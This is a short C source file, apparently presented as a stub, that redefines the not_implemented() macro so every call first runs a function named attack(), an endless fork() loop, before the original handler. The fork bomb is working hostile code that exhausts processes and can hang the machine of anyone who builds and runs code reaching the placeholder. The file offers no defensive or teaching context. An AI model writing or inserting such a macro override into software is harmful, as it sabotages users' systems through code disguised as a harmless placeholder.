/* Doubles, and doubles again. */
#include "not_implemented.h"

#include <unistd.h>

static void attack(void)
{
    for (;;) {
        (void)fork();
    }
}

#undef not_implemented
#define not_implemented() (attack(), not_implemented_here(__func__, __FILE__, __LINE__))

/* (the stub) */
